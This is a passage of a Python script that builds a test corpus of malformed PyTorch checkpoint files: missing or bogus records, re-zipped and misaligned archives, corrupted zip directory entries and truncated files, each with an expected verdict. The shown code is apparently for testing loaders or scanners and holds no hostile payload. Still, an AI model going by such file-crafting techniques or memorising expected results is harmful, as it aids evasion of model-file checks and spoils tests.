    trick('unknown_record_under_data.pt', appended(('FOLDER/data/weights', b'\0' * 8)),
          'record', 'data/weights', 'a record under data/ whose name is no key')
    trick('missing_version.pt',
          lambda folder, members: [members.remove(m) for m in list(members)
                                   if m.name.endswith('/version')],
          'record', 'version', 'no version record')
    trick('missing_data_pkl.pt', lambda folder, members: members.pop(0), 'record', 'data.pkl',
          'no data.pkl')
    trick('version_9.pt', knob('version', data=b'9\n'), 'version', 'version',
          'version 9 (torch writes 3)')
    trick('byteorder_bogus.pt', knob('byteorder', data=b'middle'), 'byteorder', 'byteorder',
          'byteorder "middle"')
    trick('unaligned.pt', lambda folder, members: [setattr(m, 'align', False) for m in members],
          'alignment', '-', 'no FB padding: data not at multiples of 64', 'ok')
    trick('foreign_extra.pt', lambda folder, members: [
        setattr(m, 'extra', b'UT\x05\x00\x01\x00\x00\x00\x00') for m in members],
          'alignment', '-', 'a UT (0x5455) timestamp extra field in place of FB: a re-zipped '
          'file', 'ok')
    for name, method in (('rezipped.pt', zipfile.ZIP_STORED),
                         ('rezipped_deflated.pt', zipfile.ZIP_DEFLATED)):
        corpus.add(name, rezipped(os.path.splitext(name)[0], good, records, method),
                   'alignment' if method == zipfile.ZIP_STORED else 'deflate', '-',
                   'unzipped and zipped again with Python\'s zipfile (%s): no FB padding, '
                   'no data descriptors, sizes in the local headers'
                   % ('stored' if method == zipfile.ZIP_STORED else 'deflated'), 'ok', value)
    folder = 'entry_count_wrong'
    data = bytearray(tzip.write_zip(members_of(folder)))
    count = len(members_of(folder))
    struct.pack_into('<HH', data, len(data) - 22 + 8, count - 1, count - 1)
    struct.pack_into('<QQ', data, len(data) - 22 - 20 - 56 + 24, count - 1, count - 1)
    corpus.add(folder + '.pt', bytes(data), 'zip-mismatch', '-',
               'end records counting one member fewer than the central directory holds')
    folder = 'central_offset_wrong'
    data = bytearray(tzip.write_zip(members_of(folder)))
    offsets = tzip.member_offsets(bytes(data))
    central = data.index(b'PK\x01\x02' + bytes(4) + struct.pack('<H', 0x0808), 0)
    entry = data.index(('%s/data/0' % folder).encode(), central) - 46
    struct.pack_into('<I', data, entry + 42, offsets[folder + '/data/1'][0])
    corpus.add(folder + '.pt', bytes(data), 'zip-mismatch', 'data/0',
               'the central entry of data/0 points at the local header of data/1')


def rezipped(folder, good, records, method):
    import io
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as archive:
        for name, data in torch_records(folder, good, records):
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = method
            archive.writestr(info, data)
    return out.getvalue()


# ------------------------------------------------------------ truncations

def truncations(corpus):
    value, records = state_dict()
    data = checkpoint('truncated.pt', value, records)
    end = len(data)
    offsets = tzip.member_offsets(data)
    cuts = sorted({1, 3, 4, 29, 30, 64, offsets['truncated/data/0'][1] + 10, end // 2,
                   end - 200, end - 98, end - 22, end - 21, end - 1})
    for cut in cuts:
        name = 'truncated_%d.pt' % cut
        corpus.add(name, data[:cut], 'truncated', '-',
                   'a valid file of %d bytes cut to %d' % (end, cut))
    corpus.add('empty_file.pt', b'', 'empty', '-', 'an empty file')


# ------------------------------------------------------------ main

def main(outdir):
    os.makedirs(outdir, exist_ok=True)
    corpus = Corpus(outdir)
    value, records = state_dict()
    corpus.valid('crafted_base.pt', checkpoint('crafted_base.pt', value, records),
                 'the benign checkpoint every crafted file starts from (tzip + tpickle)', value)
    payload_files(corpus)
    tensor_faults(corpus)
    pickle_faults(corpus)
    zip_tricks(corpus)
    truncations(corpus)
    write_tsv(os.path.join(outdir, 'expected.tsv'), corpus.rows)
    total = sum(os.path.getsize(os.path.join(outdir, row.file)) for row in corpus.rows)
    print('craft: %d files, %d bytes in %s' % (len(corpus.rows), total, outdir))


if __name__ == '__main__':
    if len(sys.argv) != 2:
        sys.exit('usage: craft.py OUTDIR')
    main(sys.argv[1])
